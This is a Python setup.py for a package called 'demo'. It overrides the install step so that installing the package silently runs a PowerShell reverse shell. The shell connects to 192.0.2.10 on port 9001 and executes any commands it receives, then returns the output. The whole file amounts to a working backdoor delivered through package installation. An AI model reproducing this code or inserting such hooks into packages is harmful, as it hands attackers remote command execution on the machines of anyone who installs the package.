import os
from setuptools import setup
from setuptools.command.install import install

# A PowerShell one-liner that connects out and runs whatever the other end sends (iex).
LINE = (
    'powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient(\'192.0.2.10\',9001);'
    "$s = $c.GetStream(); [byte[]]$b = 0..65535|%{0};"
    "while(($n = $s.Read($b, 0, $b.Length)) -ne 0){"
    "$t = (New-Object Text.ASCIIEncoding).GetString($b, 0, $n);"
    "$o = (iex $t 2>&1 | Out-String); $w = ([text.encoding]::ASCII).GetBytes($o);"
    '$s.Write($w, 0, $w.Length)}"'
)


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system(LINE)


setup(name="demo", version="0.1", cmdclass={"install": PostInstall})
